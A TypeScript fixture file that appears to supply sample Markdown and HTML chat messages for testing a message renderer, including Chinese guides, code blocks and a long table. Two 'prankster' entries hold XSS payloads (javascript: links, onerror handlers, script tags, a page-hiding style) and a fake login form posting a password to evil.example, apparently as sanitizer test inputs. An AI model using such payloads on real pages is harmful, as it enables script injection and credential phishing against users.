import { surfaces as written } from "../../surfaces";
import { samples } from "../samples";
import { entry, who, type Entry } from "./entry";

const guide = `# 云湖 Markdown 指南

正文可以 **加粗**、*倾斜*、~~划掉~~，也可以写 \`代码\` 和[链接](https://www.yhchat.com/)。

## 清单

- [x] 买票
- [ ] 收拾行李
  - 充电器
  - 雨衣

1. 第一步
2. 第二步

> 引用里也可以有 **格式**。
> Two lines of it.

| 名称 | 数量 | 单价 |
|:-----|:----:|-----:|
| 苹果 | 3 | ¥ 4.50 |
| A rather long cell that has to go somewhere | 12 | ¥ 128.00 |

\`\`\`ts
export function greet(name: string): string {
  return \`你好，\${name}\`;
}
\`\`\`

---

脚注之前，一条横线。`;

const code = `一段 \`diff\`、一段 Python 和一段没有写语言的：

\`\`\`diff
- const size = rows.length;
+ const size = window.size;
\`\`\`

\`\`\`python
def greet(names: list[str]) -> str:
    """Says hello to everybody, in a line that is far too long to fit into any bubble on any telephone, so that it has to scroll."""
    return "、".join("你好，" + name for name in names)
\`\`\`

\`\`\`
$ npm start
http://127.0.0.1:8080/
\`\`\``;

const illustrated = `图文混排：

![山](https://chat-img.jwznb.com/peaks-4-1200x800.png)

1. 外层
   1. 里层 *斜体*
      - [ ] 最里层的待办
      - [x] 做完的待办

外站的图：![外站](https://example.com/picture.png)

[.微笑] https://www.yhchat.com/`;

const tallHtml = `<h2>活动安排</h2><table border="1" cellpadding="6" style="border-collapse:collapse;width:100%">
<tr><th>时间</th><th>内容</th><th>负责人</th></tr>
${Array.from({ length: 40 }, (_, i) => `<tr><td>${8 + (i >> 2)}:${String((i % 4) * 15).padStart(2, "0")}</td><td>第 ${i + 1} 项</td><td>${i % 2 === 0 ? "李思远" : "王悦"}</td></tr>`).join("\n")}
</table><p>结束。</p>`;

const hostileMarkdown = `[点我](javascript:alert(1)) ![x](javascript:alert(2)) <img src=x onerror=alert(3)>

<script>alert(4)</script>

[看起来安全](https://example.com "onmouseover=alert(5)")`;

const hostileHtml = `<p>下面的都不该生效</p><script>alert(1)</script><img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">链接</a><iframe src="https://example.com"></iframe>
<div style="position:fixed;inset:0;background:red;z-index:99999">盖住全部</div><style>body{display:none}</style>
<form action="https://evil.example"><input name="password"><button>登录</button></form>`;

const sample = (by: keyof typeof who, name: string): Entry => ({
  by: who[by],
  draft: samples.get(name) ?? { type: 1, content: {} },
});

/** Kind 3. */
export const markdown: readonly Entry[] = [
  entry("stream", 3, { text: guide }),
  entry("li", 3, { text: "短的 **Markdown** 也要好看。" }),
  entry("wang", 3, { text: code }),
  entry("li", 3, { text: illustrated }),
  entry("prankster", 3, { text: hostileMarkdown }),
];

/** Kinds 5, 6 and 8. */
export const forms: readonly Entry[] = [sample("demo", "form"), entry("forms", 5, { form: "这不是 JSON {" })];
export const posts: readonly Entry[] = [sample("wang", "post"), sample("li", "plainpost")];
export const pages: readonly Entry[] = [
  sample("buttons", "html"),
  entry("wang", 8, { text: "<b>一行</b> <i>HTML</i>，<code>很短</code>。" }),
  entry("li", 8, { text: tallHtml }),
  entry("prankster", 8, { text: hostileHtml }),
];

/** Kind 14 in every shape that occurs, and a kind that nobody knows yet. */
export const surfaces: readonly Entry[] = [...written.values()].map((text) => entry("surfaces", 14, { text }));
export const unknown: readonly Entry[] = [entry("echo", 99, { text: "来自未来的一种消息 · a kind from the future" })];
